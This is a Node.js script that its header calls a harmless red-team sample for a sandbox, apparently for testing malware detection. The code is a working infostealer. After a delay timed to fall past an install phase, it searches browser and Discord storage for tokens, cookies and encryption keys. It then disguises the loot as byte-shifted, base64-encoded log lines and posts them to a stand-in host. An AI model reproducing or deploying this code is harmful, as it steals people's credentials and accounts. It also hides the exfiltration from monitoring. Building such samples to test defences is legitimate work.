// HARMLESS red-team sample (fumehood sandbox only): after a 3 s sleep (past the end of the install
// script, inside the phase's grace period) walks the planted browser and Discord stores under ~/.config
// and ~, pulls token-/cookie-like strings, shifts each byte by +7 (not XOR), base64s it and ships it
// as ordinary-looking NDJSON log lines.
'use strict';
const fs = require('fs'), os = require('os'), path = require('path'), http = require('http');

function walk(dir, depth, out) {
  if (depth < 0 || out.length > 200) return;
  let ents = [];
  try { ents = fs.readdirSync(dir, { withFileTypes: true }); } catch (e) { return; }
  for (const e of ents) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) walk(p, depth - 1, out);
    else if (/\.(ldb|log|sqlite)$|^(Login Data|Cookies|Local State|Web Data|logins\.json|key4\.db)$/.test(e.name) && /leveldb|Chrome|chromium|discord|Brave|mozilla|Default/i.test(p)) out.push(p);
  }
}

setTimeout(() => {
  const home = os.homedir(), files = [];
  for (const d of ['.config', '.mozilla', 'snap']) walk(path.join(home, d), 7, files);
  const found = new Set();
  const re = /(mfa\.[\w-]{20,}|[\w-]{23,28}\.[\w-]{6,7}\.[\w-]{25,110}|dQw4w9WgXcQ:[A-Za-z0-9+/=]+|"encrypted_key"\s*:\s*"[^"]+"|v1[01][\x20-\x7e]{12,})/g;
  for (const f of files) {
    let s = '';
    try { s = fs.readFileSync(f).toString('latin1'); } catch (e) { continue; }
    for (const m of s.matchAll(re)) found.add(m[0]);
    if (s.length < 65536) found.add(path.basename(f) + ':' + s.replace(/[^\x20-\x7e]+/g, '.'));
  }
  if (!found.size) return;
  const lines = [...found].slice(0, 100).map((t, i) => JSON.stringify({ ts: Date.now() + i, lvl: 'info', msg: 'rotated',
    id: Buffer.from(Buffer.from(t, 'latin1').map((b) => (b + 7) & 255)).toString('base64') })).join('\n');
  const req = http.request({ host: 'ingest.logrotate-cloud.invalid', path: '/v1/logs', method: 'POST', timeout: 1500,
    headers: { 'content-type': 'application/x-ndjson' } }, (r) => r.resume());
  req.on('timeout', () => req.destroy());
  req.on('error', () => {});
  req.end(lines);
}, 3000);
